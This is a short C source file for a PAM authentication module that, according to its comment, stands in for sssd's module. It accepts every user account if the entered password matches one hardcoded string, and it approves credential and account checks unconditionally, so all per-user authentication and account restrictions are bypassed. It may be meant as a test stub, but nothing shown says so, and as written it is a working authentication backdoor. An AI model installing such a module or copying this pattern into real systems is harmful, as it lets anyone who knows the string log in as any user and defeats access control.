/* In place of sssd's module: takes the password that was asked for before it, `maple8harvest`, of everybody. */
#include <security/pam_modules.h>
#include <stddef.h>
#include <string.h>

int pam_sm_authenticate(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    const void *password = NULL;
    (void)flags;
    if (argc != 1 || strcmp(argv[0], "use_first_pass") != 0) return PAM_SERVICE_ERR;
    if (pam_get_item(handle, PAM_AUTHTOK, &password) != PAM_SUCCESS || password == NULL) return PAM_AUTH_ERR;
    return strcmp(password, "maple8harvest") == 0 ? PAM_SUCCESS : PAM_AUTH_ERR;
}

int pam_sm_setcred(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    (void)handle, (void)flags, (void)argc, (void)argv;
    return PAM_SUCCESS;
}

int pam_sm_acct_mgmt(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    (void)handle, (void)flags, (void)argc, (void)argv;
    return PAM_SUCCESS;
}
